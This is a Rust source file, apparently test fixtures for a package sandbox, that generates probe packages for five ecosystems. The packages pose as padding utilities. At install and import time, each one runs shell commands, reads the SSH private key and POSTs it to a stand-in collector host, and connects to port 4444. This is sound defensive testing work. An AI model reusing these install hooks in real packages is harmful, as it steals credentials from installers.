//! The probe packages: one per ecosystem, each doing the same five things
//! at install time (through the ecosystem's own hook) and at import time,
//! labelled with the phase so a test can tell them apart:
//!
//! - runs a command: `sh -c "echo <phase> > /tmp/probe-<phase>-cmd"`;
//! - writes a file outside the package: `/root/.probe-<phase>`;
//! - reads the SSH bait `/root/.ssh/id_rsa`;
//! - creates and deletes `/tmp/probe-<phase>-gone`;
//! - connects to 192.0.2.10 port 4444 (a documentation address);
//! - looks up `<phase>.probe.paddock.example`;
//! - POSTs the SSH bait over HTTPS to
//!   `https://collector.webhook.example/<phase>` with the runtime's own
//!   HTTPS client (a cargo build script and the Rust import with `curl`);
//! - the Python probe also makes a request that trusts only a bundle of
//!   its own (pip's vendored roots, as a client that pins does) to
//!   `pinned.webhook.example`, which must fail.

use crate::packages::{reference, FixturePackage};
use paddock_proto::v1::Ecosystem;

/// The address and port every probe connects to.
pub const PROBE_ADDR: (&str, u32) = ("192.0.2.10", 4444);

const PYTHON: &str = r#"import os, socket, ssl, subprocess, urllib.request

def probe(phase):
    subprocess.run(["sh", "-c", "echo %s > /tmp/probe-%s-cmd" % (phase, phase)])
    with open("/root/.probe-%s" % phase, "w") as f:
        f.write("persist")
    try:
        with open("/root/.ssh/id_rsa") as f:
            f.read()
    except OSError:
        pass
    open("/tmp/probe-%s-gone" % phase, "w").close()
    os.remove("/tmp/probe-%s-gone" % phase)
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect(("192.0.2.10", 4444))
    except OSError:
        pass
    finally:
        s.close()
    try:
        socket.getaddrinfo("%s.probe.paddock.example" % phase, 443)
    except OSError:
        pass
    try:
        with open("/root/.ssh/id_rsa", "rb") as f:
            key = f.read()
        req = urllib.request.Request("https://collector.webhook.example/%s" % phase, data=key, method="POST")
        urllib.request.urlopen(req, timeout=10).read()
    except Exception as e:
        print("https failed:", e)
    try:
        own = ssl.create_default_context(cafile="/usr/lib/python3/dist-packages/pip/_vendor/certifi/cacert.pem")
        urllib.request.urlopen("https://pinned.webhook.example/%s" % phase, context=own, timeout=10)
        print("pinned: accepted")
    except Exception:
        pass
"#;

const NODE: &str = r#"'use strict';
const cp = require('child_process');
const fs = require('fs');
const net = require('net');
const dns = require('dns');
const https = require('https');

module.exports = function probe(phase) {
  cp.execFileSync('sh', ['-c', `echo ${phase} > /tmp/probe-${phase}-cmd`]);
  fs.writeFileSync(`/root/.probe-${phase}`, 'persist');
  try { fs.readFileSync('/root/.ssh/id_rsa'); } catch (e) {}
  fs.writeFileSync(`/tmp/probe-${phase}-gone`, 'x');
  fs.unlinkSync(`/tmp/probe-${phase}-gone`);
  const s = net.connect({ host: '192.0.2.10', port: 4444, timeout: 3000 });
  s.on('error', () => {});
  s.on('timeout', () => s.destroy());
  dns.lookup(`${phase}.probe.paddock.example`, () => {});
  let key = '';
  try { key = fs.readFileSync('/root/.ssh/id_rsa', 'utf8'); } catch (e) {}
  const req = https.request({ host: 'collector.webhook.example', path: `/${phase}`, method: 'POST', timeout: 5000 }, (res) => res.resume());
  req.on('error', (e) => console.error('https failed:', e.message));
  req.on('timeout', () => req.destroy());
  req.end(key);
};
"#;

const RUBY: &str = r##"require 'socket'
require 'net/http'

module PaddockProbe
  def self.probe(phase)
    system('sh', '-c', "echo #{phase} > /tmp/probe-#{phase}-cmd")
    File.write("/root/.probe-#{phase}", 'persist')
    begin
      File.read('/root/.ssh/id_rsa')
    rescue StandardError
      nil
    end
    File.write("/tmp/probe-#{phase}-gone", 'x')
    File.delete("/tmp/probe-#{phase}-gone")
    begin
      Socket.tcp('192.0.2.10', 4444, connect_timeout: 3).close
    rescue StandardError
      nil
    end
    begin
      Addrinfo.getaddrinfo("#{phase}.probe.paddock.example", 443)
    rescue StandardError
      nil
    end
    begin
      http = Net::HTTP.new('collector.webhook.example', 443)
      http.use_ssl = true
      http.open_timeout = 5
      http.read_timeout = 5
      http.post("/#{phase}", File.read('/root/.ssh/id_rsa'))
    rescue StandardError => e
      warn "https failed: #{e}"
    end
  end
end
"##;

const PHP: &str = r#"<?php
if (!function_exists('paddock_probe')) {
    function paddock_probe($phase) {
        system('sh -c ' . escapeshellarg("echo $phase > /tmp/probe-$phase-cmd"));
        file_put_contents("/root/.probe-$phase", 'persist');
        @file_get_contents('/root/.ssh/id_rsa');
        file_put_contents("/tmp/probe-$phase-gone", 'x');
        unlink("/tmp/probe-$phase-gone");
        $s = @fsockopen('192.0.2.10', 4444, $errno, $errstr, 3);
        if ($s) {
            fclose($s);
        }
        @gethostbyname("$phase.probe.paddock.example");
        $post = stream_context_create(['http' => [
            'method' => 'POST',
            'content' => (string) @file_get_contents('/root/.ssh/id_rsa'),
            'timeout' => 5,
            'ignore_errors' => true,
        ]]);
        if (@file_get_contents("https://collector.webhook.example/$phase", false, $post) === false) {
            fwrite(STDERR, "https failed\n");
        }
    }
}
"#;

const RUST: &str = r#"pub fn probe(phase: &str) {
    let _ = std::process::Command::new("sh")
        .args(["-c", &format!("echo {phase} > /tmp/probe-{phase}-cmd")])
        .status();
    let _ = std::fs::write(format!("/root/.probe-{phase}"), "persist");
    let _ = std::fs::read("/root/.ssh/id_rsa");
    let gone = format!("/tmp/probe-{phase}-gone");
    let _ = std::fs::write(&gone, "x");
    let _ = std::fs::remove_file(&gone);
    let addr: std::net::SocketAddr = "192.0.2.10:4444".parse().unwrap();
    let _ = std::net::TcpStream::connect_timeout(&addr, std::time::Duration::from_secs(3));
    use std::net::ToSocketAddrs;
    let _ = (format!("{phase}.probe.paddock.example"), 443).to_socket_addrs();
    let _ = std::process::Command::new("curl")
        .args(["-s", "-m", "5", "-o", "/dev/null", "--data-binary", "@/root/.ssh/id_rsa"])
        .arg(format!("https://collector.webhook.example/{phase}"))
        .status();
}
"#;

/// The files of a probe package, before packing.
pub fn sources(pkg: &FixturePackage) -> Vec<(String, String)> {
    let v = &pkg.version;
    match pkg.eco {
        Ecosystem::Npm => vec![
            (
                "package/package.json".into(),
                format!(
                    r#"{{"name":"{}","version":"{v}","main":"index.js","license":"MIT","scripts":{{"postinstall":"node install.js"}}}}"#,
                    pkg.name
                ),
            ),
            ("package/probe.js".into(), NODE.into()),
            ("package/install.js".into(), "require('./probe')('install');\n".into()),
            (
                "package/index.js".into(),
                "require('./probe')('import');\nmodule.exports = { pad: (s, n) => String(s).padStart(n) };\n".into(),
            ),
        ],
        Ecosystem::Pypi => {
            let module = pkg.name.replace('-', "_");
            let root = format!("{module}-{v}");
            vec![
                (
                    format!("{root}/PKG-INFO"),
                    format!("Metadata-Version: 2.1\nName: {}\nVersion: {v}\n", pkg.name),
                ),
                (
                    format!("{root}/setup.py"),
                    format!(
                        "import sys\nsys.path.insert(0, '{module}')\nfrom _probe import probe\nprobe('install')\n\n\
                         from setuptools import setup\nsetup(name='{}', version='{v}', packages=['{module}'])\n",
                        pkg.name
                    ),
                ),
                (format!("{root}/{module}/_probe.py"), PYTHON.into()),
                (
                    format!("{root}/{module}/__init__.py"),
                    "from ._probe import probe\nprobe('import')\n\ndef pad(s, n):\n    return str(s).rjust(n)\n".into(),
                ),
            ]
        }
        Ecosystem::Rubygems => vec![
            (format!("lib/{}.rb", pkg.name), format!("{RUBY}\nPaddockProbe.probe('import')\n")),
            (
                "ext/extconf.rb".into(),
                format!(
                    "{RUBY}\nPaddockProbe.probe('install')\nFile.write('Makefile', \"all:\\n\\t@true\\ninstall:\\n\\t@true\\nclean:\\n\\t@true\\n\")\n"
                ),
            ),
        ],
        Ecosystem::Packagist => {
            let root = format!("{}-{}", pkg.name.replace('/', "-"), reference(pkg));
            vec![
                (
                    format!("{root}/composer.json"),
                    format!(
                        r#"{{"name":"{}","version":"{v}","type":"composer-plugin","license":"MIT","require":{{"composer-plugin-api":"^2.0"}},"autoload":{{"psr-4":{{"PaddockProbe\\":"src/"}},"files":["src/boot.php"]}},"extra":{{"class":"PaddockProbe\\Plugin"}}}}"#,
                        pkg.name
                    ),
                ),
                (format!("{root}/src/probe.php"), PHP.into()),
                (
                    format!("{root}/src/boot.php"),
                    "<?php\nrequire_once __DIR__ . '/probe.php';\n// Inside Composer (installing the plugin) this is not the import.\nif (!class_exists('Composer\\\\Composer', false)) {\n    paddock_probe('import');\n}\n".into(),
                ),
                (
                    format!("{root}/src/Plugin.php"),
                    "<?php\nnamespace PaddockProbe;\n\nuse Composer\\Composer;\nuse Composer\\IO\\IOInterface;\nuse Composer\\Plugin\\PluginInterface;\n\n\
                     class Plugin implements PluginInterface\n{\n    public function activate(Composer $composer, IOInterface $io)\n    {\n        require_once __DIR__ . '/probe.php';\n        paddock_probe('install');\n    }\n\n\
                     public function deactivate(Composer $composer, IOInterface $io) {}\n\n    public function uninstall(Composer $composer, IOInterface $io) {}\n}\n".into(),
                ),
            ]
        }
        Ecosystem::CratesIo | Ecosystem::Unspecified => {
            let root = format!("{}-{v}", pkg.name);
            vec![
                (
                    format!("{root}/Cargo.toml"),
                    format!(
                        "[package]\nname = \"{}\"\nversion = \"{v}\"\nedition = \"2021\"\nlicense = \"MIT\"\nbuild = \"build.rs\"\n",
                        pkg.name
                    ),
                ),
                (format!("{root}/src/probe.rs"), RUST.into()),
                (
                    format!("{root}/build.rs"),
                    "#[path = \"src/probe.rs\"]\nmod probe;\n\nfn main() {\n    probe::probe(\"install\");\n}\n".into(),
                ),
                (
                    format!("{root}/src/lib.rs"),
                    "mod probe;\n\n// Runs when a program linking the crate starts: Rust's import time.\n\
                     #[used]\n#[link_section = \".init_array\"]\nstatic PROBE_AT_LOAD: extern \"C\" fn() = {\n    extern \"C\" fn at_load() {\n        probe::probe(\"import\");\n    }\n    at_load\n};\n\n\
                     pub fn pad(s: &str, n: usize) -> String {\n    format!(\"{s:>n$}\")\n}\n".into(),
                ),
            ]
        }
    }
}
